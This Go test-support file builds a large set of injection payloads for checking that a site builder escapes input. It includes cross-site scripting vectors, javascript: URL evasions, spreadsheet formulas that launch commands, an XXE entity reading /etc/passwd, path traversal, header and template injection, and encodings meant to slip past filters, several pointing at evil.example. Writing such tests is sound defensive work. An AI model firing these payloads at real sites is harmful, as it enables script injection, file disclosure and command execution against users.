package build_test

import (
	"fmt"
	"html"
	"net/url"
	"strings"
	"unicode/utf8"
)

// mark is in every payload, so that a test can find what became of it.
const mark = "zq7x"

// payloads are texts that want to be something else: markup, script, an
// address that runs, a template, a formula, another line. Each is made of a
// shape and of a way to write it.
func payloads() []string {
	var out []string
	add := func(format string, args ...any) { out = append(out, fmt.Sprintf(format, args...)) }

	// Elements that run, load, or change the page around them.
	for _, s := range []string{
		`<script>alert(%q)</script>`, `<SCRIPT SRC=//evil.example/%s.js></SCRIPT>`, `<script/x>alert('%s')</script>`, `<scr<script>ipt>alert('%s')</script>`,
		`</script><script>alert('%s')</script>`, `</title><script>alert('%s')</script>`, `</textarea><img src=x onerror=alert('%s')>`, `</style><script>alert('%s')</script>`,
		`<img src=x onerror=alert('%s')>`, `<img/src=x/onerror=alert('%s')>`, `<IMG """><SCRIPT>alert('%s')</SCRIPT>">`, `<img src="https://evil.example/%s.gif">`,
		`<svg onload=alert('%s')>`, `<svg><script>alert('%s')</script></svg>`, `<svg><a xlink:href="javascript:alert('%s')"><text y=9>x</text></a></svg>`, `<svg><animate onbegin=alert('%s') attributeName=x>`,
		`<math><mi xlink:href="data:text/html,%s">x</mi></math>`, `<math><mtext><table><mglyph><style><img title="</style><img src onerror=alert('%s')>">`, `<iframe src="javascript:alert('%s')"></iframe>`, `<iframe srcdoc="<script>alert('%s')</script>">`,
		`<object data="data:text/html,%s"></object>`, `<embed src="//evil.example/%s.swf">`, `<link rel=stylesheet href="//evil.example/%s.css">`, `<style>@import '//evil.example/%s.css';</style>`,
		`<meta http-equiv=refresh content="0;url=javascript:alert('%s')">`, `<meta http-equiv="refresh" content="0;url=https://evil.example/%s">`, `<base href="https://evil.example/%s/">`, `<form action="https://evil.example/%s"><input name=x><button>x`,
		`<body onload=alert('%s')>`, `<details open ontoggle=alert('%s')>`, `<input autofocus onfocus=alert('%s')>`, `<video><source onerror=alert('%s')>`,
		`<audio src=x onerror=alert('%s')>`, `<marquee onstart=alert('%s')>`, `<a href="javascript:alert('%s')">x</a>`, `<a style="position:fixed;inset:0" href="https://evil.example/%s">x</a>`,
		`<template><script>alert('%s')</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert('%s')>">`, `<plaintext>%s`, `<xmp><script>alert('%s')</script></xmp>`,
		`<!--><script>alert('%s')</script>-->`, `<!-- %s`, `--><b>%s</b>`, `<![CDATA[<script>alert('%s')</script>]]>`, `]]><script>alert('%s')</script>`, `<?xml version="1.0"?><x>%s</x>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;%s</x>`,
		`</main></body></html><h1>%s</h1>`, `</a></p></li></ul></div><h1>%s</h1>`, `<portal src="https://evil.example/%s">`, `<frameset onload=alert('%s')>`, `<table background="javascript:alert('%s')">`, `<div style="background:url(javascript:alert('%s'))">`,
	} {
		add(s, mark)
	}
	// Out of an attribute.
	for _, q := range []string{`"`, `'`, "`", `">`, `'>`, `"/>`, `&quot;`, `&#34;`, `\"`, `\'`, `%22`, "\u201c", "\uff02", ` `} {
		add(`%s onmouseover=alert('%s') x=`, q, mark)
		add(`%s autofocus onfocus=alert('%s') tabindex=1 `, q, mark)
		add(`%s><svg/onload=alert('%s')>`, q, mark)
		add(`%s style=background:url(//evil.example/%s) `, q, mark)
	}
	// Addresses that run, in as many spellings as browsers have been seen to
	// forgive.
	for _, scheme := range []string{"javascript", "vbscript", "data", "file", "blob", "filesystem", "view-source", "jar", "livescript", "mocha", "about", "chrome", "intent", "ws"} {
		rest := map[string]string{"data": ":text/html,<script>alert('" + mark + "')</script>", "file": ":///etc/passwd?" + mark}[scheme]
		if rest == "" {
			rest = ":alert('" + mark + "')"
		}
		add("%s", scheme+rest)
		add("%s", strings.ToUpper(scheme)+rest)
	}
	script := "javascript:alert('" + mark + "')"
	for i, s := range []string{"jAvAsCrIpT" + script[10:], " " + script, "\t" + script, "\x01" + script, "\x00" + script, "\u00a0" + script, "\u200b" + script, "\ufeff" + script, "\u2028" + script, "\u3000" + script,
		"java\tscript" + script[10:], "java\nscript" + script[10:], "java\rscript" + script[10:], "java\x00script" + script[10:], "java\u00adscript" + script[10:], "java\u200dscript" + script[10:], "java&Tab;script" + script[10:], "java&NewLine;script" + script[10:],
		"javascript&colon;alert('" + mark + "')", "javascript&#58;alert('" + mark + "')", "javascript&#x3a;alert('" + mark + "')", "javascript&#0000058alert('" + mark + "')", "javascript%3Aalert('" + mark + "')", "javascript\uff1aalert('" + mark + "')",
		"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('" + mark + "')", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('" + mark + "')", "%6aavascript" + script[10:], "&#1;" + script, "&#14; " + script, "&#0;" + script,
		"feed:" + script, "http:" + script, "https:" + script, "//" + script, "javascript://evil.example/%0aalert('" + mark + "')", "javascript:\u2028alert('" + mark + "')", "https://evil.example\\@" + mark, "\\\\evil.example\\" + mark, "//evil.example/" + mark, "/\\evil.example/" + mark,
		"https:evil.example/" + mark, "https:///evil.example/" + mark, "https://user:pass@evil.example/" + mark, "https://evil.example/\"onclick=alert('" + mark + "')", "https://evil.example/'><script>" + mark, "mailto:a@b.example?subject=" + mark + "&body=<script>", "mailto:javascript:" + mark, "http://[::1]:x/" + mark,
		"../../../etc/passwd?" + mark, "..\\..\\" + mark, "/etc/passwd#" + mark, "?" + mark + "=javascript:", "#javascript:" + mark, "con/" + mark, "%2e%2e/%2e%2e/" + mark, "file:" + mark, "data:," + mark, "data:image/svg+xml,<svg onload=alert('" + mark + "')>",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" + mark} {
		add("%s", s)
		if i%3 == 0 {
			add("[%s](%s)", mark, s)
			add("<%s>", s)
		}
	}
	// Markdown that wants to be more than text.
	for _, s := range []string{
		`[%s](javascript:alert(1))`, `[%s](<javascript:alert(1)>)`, `[%s](  javascript:alert(1) "t")`, `[%s](java&Tab;script:alert(1))`, `[%s](&#106;avascript:alert(1))`, `[%s](data:text/html,x)`, `[%s](vbscript:x)`, `[%s](//evil.example/x)`, `[%s](\javascript:alert(1))`,
		`![%s](https://evil.example/x.gif)`, `![%s](javascript:alert(1))`, `[![%s](https://evil.example/x.gif)](javascript:alert(1))`, `<javascript:alert(%s)>`, `<https://evil.example/"onclick=alert(%s)>`, `<a@evil.example"onclick=%s>`, "`<script>%s</script>`", "[%s]: javascript:alert(1)",
		`[%s](https://evil.example/ "x\" onmouseover=\"alert(1)")`, `[%s](https://evil.example/'onmouseover='alert(1))`, `**[%s**](javascript:x)`, `# %s {#main onclick=alert(1)}`, `%s {.x onclick=alert(1)}`, `[^%s]: <script>`, `| %s | <script> |`, `<div markdown="1">%s</div>`, `&lt;script&gt;%s&lt;/script&gt;`, `&#60;script&#62;%s`, `&amp;lt;script&amp;gt;%s`, `\<script>%s`, `<\script>%s`,
	} {
		add(s, mark)
	}
	// Templates of this program and of others.
	for _, s := range []string{`{{.Site}}%s`, `{{ printf "%%s" }}%s`, `{{define "top"}}%s{{end}}`, `{{template "top" .}}%s`, `{{if .}}%s`, `{{/* %s`, `{%% include "x" %%}%s`, `${%s}`, `<%%= %s %%>`, `#{%s}`, `{{- .Head -}}%s`, `{{"{{"}}%s{{"}}"}}`, `{{js .}}%s`, `<no value>%s`, `%%!s(MISSING)%s`, `ZgotmplZ%s`} {
		add(s, mark)
	}
	// Formulas, in spreadsheets of several countries.
	for _, s := range []string{`=HYPERLINK("https://evil.example/","%s")`, `=cmd|' /C calc'!'%s'`, `+1+cmd|' /C calc'!%s`, `-2+3+%s`, `@SUM(1+1)*%s`, "\t=1+1%s", "\r=1+1%s", "\n=1+1%s", `'=1+1%s`, `"=1+1%s`, `;=1+1%s`, `＝1＋1%s`, `＠SUM%s`, `=1+1";=1+1;"%s`, " =1+1%s"} {
		add(s, mark)
	}
	// Characters that are not what they seem, and ends of lines and strings.
	for _, s := range []string{"\u202e%s\u202d", "\u2066%s", "\u2067\u202b%s", "\u200f%s\u200e", "%s\u2028alert(1)", "%s\u2029alert(1)", "%s\x00", "\x00%s", "%s\x1b[2Jx", "%s\x08\x08\x08", "%s\r\nSet-Cookie: x=1", "%s\nid: other", "%s\n---\nid: other\n---\n", "%s\u0085x", "\ufeff%s", "%s\ufffe\uffff", "\U000e0041%s", "%s\u0300\u0301\u0302\u0303\u0304\u0305", "\uff1cscript\uff1e%s\uff1c/script\uff1e", "%s\u034f", "\u2800%s", "%s\u115f\u1160", "\u180e%s"} {
		add(s, mark)
	}
	// Names that a page's own things bear.
	for _, s := range []string{`main`, `__proto__`, `constructor`, `location`, `document`, `marks`, `p1`, `q1`, `cookie`, `toString`, `children`, `top`, `attributes`, `hasOwnProperty`} {
		add(`<a id=%s name=%s>%s</a>`, s, s, mark)
		add(`<form id=%s><input name=attributes>%s`, s, mark)
		out = append(out, s)
	}
	// JSON and YAML.
	for _, s := range []string{`"}],"x":"%s`, `\u003cscript\u003e%s`, `\x3cscript\x3e%s`, `*%s`, `&%s x`, `!!python/object:%s`, `<<: *%s`, `{a: %s}`, `[%s`, `- %s`, `%s: x`, `? %s`, `| %s`, `> %s`, `%%TAG ! %s`, `'%s`, `"%s`, `# %s`, `@%s`, "`%s"} {
		add(s, mark)
	}
	return out
}

// disguises are ways to write a text that a filter passes over and a browser
// might not.
var disguises = []func(s string) string{
	strings.ToUpper,
	html.EscapeString,
	func(s string) string { return html.EscapeString(html.EscapeString(s)) },
	url.PathEscape,
	func(s string) string { return url.QueryEscape(url.QueryEscape(s)) },
	func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf("&#%d;", r) }) },
	func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf("&#x%07X", r) }) },
	func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf(`\u%04x`, r) }) },
	func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf("%%%02x", r) }) },
	func(s string) string { return each(s, wide) },
	func(s string) string { return strings.NewReplacer("<", "\ufe64", ">", "\ufe65").Replace(s) + s },
	func(s string) string { return middle(s, "\x00") },
	func(s string) string { return middle(s, "\t") },
	func(s string) string { return middle(s, "\n") },
	func(s string) string { return middle(s, "\u00ad") },
	func(s string) string { return middle(s, "\u200b") },
	func(s string) string { return middle(s, "<!-- -->") },
	func(s string) string { return middle(s, "\U000e0020") },
	func(s string) string { return "\u202e" + s },
	func(s string) string { return `"><` + s },
	func(s string) string { return `'--></title></script>` + s },
	func(s string) string { return "**" + s + "**" },
	func(s string) string { return "[" + s + "](" + s + ")" },
	func(s string) string { return "<" + s + ">" },
	func(s string) string { return "`" + s + "`\n" + s },
	func(s string) string { return "    " + s + "\n\n> - " + s },
	func(s string) string { return "| " + s + " |\n|---|\n| " + s + " |" },
	func(s string) string { return `\` + strings.Join(strings.Split(s, ""), `\`) },
	func(s string) string { return s + s },
}

func each(s string, write func(rune) string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteString(write(r))
	}
	return b.String()
}

// wide is a character of ASCII in its full width.
func wide(r rune) string {
	if r > ' ' && r < 0x7f {
		r += 0xfee0
	}
	return string(r)
}

// middle puts a text into the middle of another.
func middle(s, in string) string {
	at := len(s) / 2
	for at < len(s) && !utf8.RuneStart(s[at]) {
		at++
	}
	return s[:at] + in + s[at:]
}

// disguised adds to texts what they are in disguise, until there are n.
func disguised(texts []string, n int) []string {
	seen := make(map[string]bool, n)
	for _, s := range texts {
		seen[s] = true
	}
	for from, to := 0, len(texts); len(texts) < n && from < to; from, to = to, len(texts) {
		for _, d := range disguises {
			for _, s := range texts[from:to] {
				if s = d(s); len(texts) < n && len(s) < 4096 && !seen[s] && strings.Contains(s, mark) {
					seen[s] = true
					texts = append(texts, s)
				}
			}
		}
	}
	return texts
}
